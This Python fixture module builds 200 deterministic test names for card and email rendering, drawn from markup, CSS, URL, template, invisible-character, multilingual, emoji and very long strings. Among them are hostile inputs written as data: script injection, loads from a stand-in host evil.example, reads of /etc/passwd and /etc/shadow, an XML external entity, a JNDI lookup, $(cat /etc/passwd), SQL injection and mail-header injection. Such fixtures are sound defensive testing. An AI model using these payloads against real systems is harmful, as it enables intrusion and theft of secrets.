"""200 names that want to break something: markup, style, addresses, directions, towers of accents, sheer length.

The same every time (no randomness), so that a failure can be looked at again. Used for cards and mails.
"""

from __future__ import annotations

import itertools
import unicodedata

LONGEST = 120  # Member.name

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=http://evil.example/x.png>",
    "<img src='file:///etc/passwd'>",
    '"><svg onload=alert(1)>',
    "<svg><image href='http://evil.example/a'/></svg>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<link rel=attachment href='file:///etc/passwd'>",
    "<style>@import 'http://evil.example/b.css';</style>",
    "<style>*{background:url(http://evil.example/c)}</style>",
    "<style>@font-face{font-family:x;src:url(file:///etc/passwd)}</style>",
    "<base href=http://evil.example/>",
    "<iframe src=file:///etc/hosts>",
    "<object data='http://evil.example/o.pdf'></object>",
    "<embed src=http://evil.example/e>",
    "<meta http-equiv=refresh content='0;http://evil.example'>",
    "</p></section></body></html>",
    "<!--",
    "]]><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "&lt;b&gt; &#x3c;b&#x3e; &amp;amp;",
    "<h1 style='page-break-before:always'>New page</h1>",
    "<p style=position:fixed;top:0;left:0>over it all",
    "<a href=javascript:alert(1)>me</a>",
    "<input autofocus onfocus=alert(1)>",
    "<plaintext>",
)
STYLE = (
    "url(http://evil.example/d)",
    "url('file:///etc/shadow')",
    "} body { display: none } .x {",
    "*/ @page { size: A0 } /*",
    "; content: attr(href); --x: url(//evil.example)",
    "expression(alert(1))",
    "@import url(ftp://evil.example);",
    "\\75\\72\\6c(http://evil.example)",
    "pt-17 face tier-gold",
    "style=color:transparent",
)
ADDRESSES = (
    "http://evil.example/",
    "//evil.example/x",
    "file:///etc/passwd",
    "packaged:../../settings.py",
    "packaged:qr.png",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)",
    "\\\\evil.example\\share",
    "ada@example.org\nBcc: all@example.org",
    "Ada <ada@example.org>, eve@evil.example",
    "=?utf-8?q?Ada?=",
    "www.evil.example claims you won",
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}",
    "{% include 'secret' %}",
    "{{ 7|add:7 }}",
    "{x.__class__.__mro__}",
    "%(name)s %s %d %n",
    "${jndi:ldap://evil.example/a}",
    "$(cat /etc/passwd)",
    "`id`; DROP TABLE member; --",
    "' OR 1=1 --",
    "{# comment #}",
    "{% load",
    "=HYPERLINK('http://evil.example')",
)
UNSEEN = (
    "\u200b\u200c\u200d\ufeff",
    "Ada\u200bLove\u200clace",
    "\u202eecalevoL adA",
    "Ada \u202eevil\u202c \u2066iso\u2069late",
    "\u2028line\u2029paragraph",
    "Ada\x07\x1b[31mred\x1b[0m",
    "\x01\x02\x03\x7f\x80\x9f",
    "Ada\r\nSet-Cookie: a=b",
    "Ada\tLovelace\v\f",
    "\u00ad".join("Lovelace"),
    "\u180e\u2060\u2061\u2062",
    "\U000e0041\U000e0064\U000e0061",
    "A\ufe0f\ufe0e\U000e0100",
    " ",
    "\u3164\u115f\u1160",
    "\u00a0\u2003\u3000",
    "\ufffc\ufffd\ufffe\uffff",
    "\ue000\uf8ff\U000f0000",
)
SCRIPTS = (
    "王小明",
    "山田　太郎",
    "김민준",
    "نور الدين محمد",
    "דָּוִד בֶּן־גּוּרְיוֹן",
    "سلام Ada שלום 123",
    "Ελένη Παπαδοπούλου",
    "Владимир Щёголев",
    "नरेन्द्र मोदी",
    "สมชาย ใจดี",
    "ຄຳແກ້ວ",
    "မောင်မောင်",
    "გიორგი",
    "Հայկ Աբրահամյան",
    "አበበ ቢቂላ",
    "தமிழ்ச்செல்வன்",
    "Nguyễn Thị Ánh Đặng",
    "Þórdís Ævarsdóttir",
    "Łukasz Żółć",
    "İıŞşĞğ ÇçÖöÜü",
    "𝕬𝖉𝖆 𝓛𝓸𝓿𝓮𝓵𝓪𝓬𝓮",
    "𓀀𓁐𓃒",
    "𒀱𒀱𒀱",
    "﷽﷽﷽",
    "꧁༺Ada༻꧂",
    "ａｄａ　ｌｏｖｅ",
    "ǅ ǆ ﬁ ﬃ ẞ",
    "߷ߊߐ",
    "\U00020000\U0002a6d6",
)
PICTURES = (
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈🏴‍☠️",
    "🇳🇱🇩🇪",
    "👍🏽" * 10,
    "Ada 💎 VIP",
    "❤️",
    "1️⃣#️⃣",
    "☠☢☣",
    "🫠🫥🪿",
    "😀" * LONGEST,
)
SHORT = ("A", "z", "1", "-", "'", '"', "<", "&", ".", "é", "ß", "م", "王", "Ⅷ", "𝔸")


def towers() -> list[str]:
    """Accents heaped on letters, above and below."""
    marks = [chr(c) for c in range(0x300, 0x370)]
    heaped = ["a" + "".join(marks[:n]) for n in (3, 10, 40, 110)]
    words = ["".join(letter + "".join(marks[i * 7 : i * 7 + 11]) for i, letter in enumerate("Lovelace"))]
    return [*heaped, *words, "\u0301" * 50, "\u20dd\u20e3A\u20e0", "ก" + "\u0e49" * 60, "Z" + "\u0489" * 30]


def long_names() -> list[str]:
    """As long as the roll allows, in wide and narrow letters, with and without a place to break."""
    letters = "WMim.王مЩ"
    unbroken = [letter * LONGEST for letter in letters]
    spaced = [(letter * 7 + " ") * (LONGEST // 8) for letter in letters]
    hyphens = ["-".join(["Wilhelmina"] * 10), " ".join("ABCDEFGHIJ" * 6), "van der " * 15, "x" * 119 + "\u0301"]
    return [*unbroken, *spaced, *hyphens]


def names() -> list[str]:
    """200 different names, none longer than the roll allows and none with what no database would take."""
    base = [*MARKUP, *STYLE, *ADDRESSES, *TEMPLATES, *UNSEEN, *SCRIPTS, *PICTURES, *SHORT, *towers(), *long_names()]
    mixed = (f"{a} {b}" for a, b in itertools.product(SCRIPTS, (*MARKUP, *STYLE, *ADDRESSES)))
    made = list(dict.fromkeys(name[:LONGEST] for name in [*base, *itertools.islice(mixed, 0, None, 7)]))
    return [name for name in made if not any(unicodedata.category(c) == "Cs" for c in name)][:200]
